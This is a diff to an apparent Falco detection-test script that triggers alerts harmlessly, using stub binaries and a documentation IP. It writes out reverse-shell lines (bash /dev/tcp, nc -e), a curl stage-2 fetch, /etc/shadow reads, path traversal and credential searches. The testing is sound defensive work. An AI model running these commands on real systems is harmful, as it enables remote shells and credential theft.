@@ -6,8 +6,12 @@
 #   the rules judge the program and its arguments, and nothing runs;
 # - connections to public addresses go to 198.51.100.77 (TEST-NET-2, a documentation range) and are
 #   non-blocking: the connect starts (EINPROGRESS) and is closed;
-# - attempts that need privileges run as nobody and fail with EPERM (setuid, mount); the module
-#   load is of a file that is no module (and these kernels have no module support);
+# - attempts that need privileges run as nobody and fail with EPERM (setuid, mount), or refuse to
+#   work (login); the module load is of a file that is no module (and these kernels have no module
+#   support);
+# - sensitive files are only read: /etc/shadow by a copy of python named postgres, /etc/passwd
+#   through a path climbing out of a web root;
+# - the "API server" connected to from the container is 198.51.100.77:6443, non-blocking as above;
 # - the one user added (falco-live-tmp, no home, no shell) is deleted right after;
 # - "in a container" means in CGDIR, a docker-style cgroup with no runtime behind it.
 # rules/tests/live.test.yaml asserts the alerts of the recorded capture.
@@ -34,6 +38,7 @@ mkdir -p bin srv kube home/.ssh data mnt
 for t in nc socat nmap xmrig kubectl scp curl; do cp /bin/true "bin/$t"; done
 cp "$(readlink -f $PY)" bin/cat
 cp "$(readlink -f $PY)" bin/java
+cp "$(readlink -f $PY)" bin/postgres
 cp /bin/sh bin/mysqld
 printf '#!/bin/sh\nsh -c "$@"\n' >bin/npm
 printf '#!/bin/sh\nsh -c ":" "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"\n%s/bin/curl -s http://198.51.100.77/stage2\n' "$W" >srv/nginx
@@ -46,7 +51,16 @@ printf 'dump\n' >data/backup.sql
 printf 'not a kernel module\n' >data/rootkit.ko
 
 # ---- Falco's stable set
+# Read sensitive file trusted after startup: a "postgres" (a copy of python) reads /etc/shadow once
+# it has run for more than 5 s; it runs beside the behaviours below and is waited for at the end.
+bin/postgres -c 'import time; time.sleep(6); open("/etc/shadow").close()' &
+PG=$!
 cat /etc/shadow >/dev/null                                   # Read sensitive file untrusted
+# Directory traversal monitored file read: a path climbing out of a web root to /etc/passwd, read
+# by a program whose parent is no shell (timeout runs cat).
+timeout 5 cat "$W/srv/../../../../etc/passwd" >/dev/null
+# System user interactive: nobody runs login, which refuses to work without root and exits.
+as_nobody login </dev/null >/dev/null 2>&1
 ln -s /etc/shadow data/shadow-link                           # Create Symlink Over Sensitive Files
 ln /etc/shadow data/shadow-hardlink && rm -f data/shadow-hardlink # Create Hardlink Over Sensitive Files
 shred -u data/customers.db                                   # Remove Bulk Data from Disk
@@ -72,6 +86,14 @@ grep -r aws_secret_access_key "$W/home" >/dev/null           # Find AWS Credenti
 timeout 5 ssh -o BatchMode=yes -o ConnectTimeout=1 -p 443 tunnel@198.51.100.77 true 2>/dev/null # Disallowed SSH Connection Non Standard Port
 in_container srv/runc -qec "sh -c true" /dev/null >/dev/null # Terminal shell in container
 in_container bin/nc -e /bin/sh 198.51.100.77 4444            # Netcat Remote Code Execution in Container
+in_container $PY -c '
+import socket
+s = socket.socket(); s.setblocking(False)
+try:
+    s.connect(("198.51.100.77", 6443))
+except BlockingIOError:
+    pass
+s.close()'                                                   # Contact K8S API Server From Container (port 6443)
 in_container $PY -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()' # Packet socket
 # Linux Kernel Module Injection Detected: finit_module (313) of a file that is no module, on a
 # kernel without module support.
@@ -174,4 +196,5 @@ s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
 s.recv(64)
 s.close()' "$IP" "$(cat port)"
 wait $LP 2>/dev/null
+wait $PG 2>/dev/null
 true
